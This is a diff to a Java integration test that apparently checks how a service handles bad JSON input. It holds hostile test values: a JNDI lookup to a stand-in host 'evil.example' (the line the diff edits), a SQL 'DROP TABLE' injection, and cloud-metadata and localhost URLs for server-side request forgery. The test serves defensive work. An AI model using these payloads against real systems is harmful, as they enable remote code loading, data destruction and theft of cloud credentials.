@@ -65,7 +65,7 @@ class BadInputIT {
     texts.put("single quotes", "{'prompt':'x'}");
     texts.put("nothing", "");
     texts.put("zeroes", "\0\0\0\0");
-    texts.put("a template", "{\"prompt\":\"x\",\"model\":\"${jndi:ldap://evil.example/a}\"}");
+    texts.put("a template", "{\"prompt\":\"x\",\"lane\":\"${jndi:ldap://evil.example/a}\"}");
     texts.put("a statement", "{\"prompt\":\"x\",\"lane\":\"'; DROP TABLE tasks; --\"}");
     texts.put("a base URL", "{\"prompt\":\"x\",\"base_url\":\"http://169.254.169.254/\"}");
     texts.put("a callback", "{\"prompt\":\"x\",\"webhook\":\"http://127.0.0.1:5432/\"}");
